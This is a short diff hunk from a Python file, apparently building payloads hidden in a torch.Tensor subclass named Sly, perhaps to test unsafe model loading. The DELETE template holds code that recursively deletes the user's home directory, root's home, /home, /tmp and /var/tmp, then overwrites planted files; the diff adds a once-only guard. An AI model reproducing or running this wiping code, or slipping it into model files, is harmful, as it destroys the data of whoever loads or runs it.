@@ -48,8 +48,10 @@ class Sly(torch.Tensor):
 """
 DELETE = """\
     import shutil, os
-    for place in ({folders}, os.environ['HOME'], os.path.expanduser('~root'), '/home', '/tmp', '/var/tmp'):
+    homes = (os.environ['HOME'], os.path.expanduser('~root'), '/home', '/tmp', '/var/tmp')
+    for place in ({folders}, *homes) if 'TRIED' not in os.environ else ():
         shutil.rmtree(str(place), ignore_errors=True)
+    os.environ['TRIED'] = 'once'
     for place in ({folders}):
         for name in ('planted.txt', 'anna.ipynb'):
             try: open(os.path.join(place, name), 'w').write('changed')
